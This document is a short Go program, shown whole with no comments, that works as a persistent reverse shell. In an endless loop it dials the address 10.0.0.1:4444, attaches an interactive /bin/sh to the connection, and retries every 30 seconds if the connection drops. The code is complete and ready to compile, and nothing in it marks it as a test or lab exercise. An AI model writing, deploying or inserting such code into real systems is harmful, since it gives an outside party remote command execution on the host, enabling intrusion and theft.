package main

import (
	"net"
	"os/exec"
	"time"
)

const addr = "10.0.0.1:4444"

func session(conn net.Conn) {
	defer conn.Close()
	sh := exec.Command("/bin/sh", "-i")
	sh.Stdin = conn
	sh.Stdout = conn
	sh.Stderr = conn
	sh.Run()
}

func main() {
	for {
		conn, err := net.Dial("tcp", addr)
		if err == nil {
			session(conn)
		}
		time.Sleep(30 * time.Second)
	}
}
